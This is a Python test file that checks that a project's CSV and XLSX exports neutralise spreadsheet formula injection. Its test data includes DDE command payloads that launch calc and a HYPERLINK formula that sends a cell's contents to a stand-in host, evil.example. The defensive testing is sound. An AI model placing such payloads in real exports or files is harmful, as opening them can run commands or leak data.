"""S24 (OTRS CVE-2026-93581, SolarWinds WHD CVE-2019-20002): no cell of an export runs in a spreadsheet."""

import ast
import csv
import io
from pathlib import Path

import pytest
from python_calamine import CalamineWorkbook

import simcare
from simcare.kernel.sheets import harmless, write_table

SOURCE = Path(simcare.__path__[0])
HOSTILE = (
    "=cmd|'/C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "＝1+1",
    "%0A=1",
)
ACTING = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_s24_exports_neutralise_formulas(kind: str) -> None:
    content = b"".join(write_table(kind, ["=1", *("c" * n for n in range(1, len(HOSTILE)))], [HOSTILE]))
    cells = _cells(kind, content)
    assert len(cells) == 2
    assert [cell for row in cells for cell in row if cell.startswith(ACTING)] == []
    assert all(cell.startswith("'") for cell in cells[1])


@pytest.mark.parametrize("number", ["-12.50", "+8613800138000", "-3", "0,5"])
def test_s24_signed_numbers_stay_numbers(number: str) -> None:
    assert harmless(number) == number


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_s24_long_identifiers_keep_every_digit(kind: str) -> None:
    content = b"".join(write_table(kind, ["iccid"], [["89860249213334946911"]]))
    assert _cells(kind, content)[1] == ["89860249213334946911"]


def test_s24_nothing_writes_a_table_past_the_guard() -> None:
    """A page that writes CSV by hand would forget.

    The table of a long answer makes its cells harmless by itself; rows of usage go to COPY, and nobody opens them.
    """
    writers = [
        file.relative_to(SOURCE).as_posix()
        for file in SOURCE.rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        if (isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and _is_csv(node.value))
        or (isinstance(node, ast.Import) and any(name.name == "xlsxwriter" for name in node.names))
    ]
    assert set(writers) == {"kernel/sheets/writing.py", "support/rules/answers/sheet.py", "usage/rules/reading.py"}


def _is_csv(node: ast.expr) -> bool:
    return isinstance(node, ast.Name) and node.id == "csv"


def _cells(kind: str, content: bytes) -> list[list[str]]:
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    return [
        [str(cell) for cell in row]
        for row in CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    ]
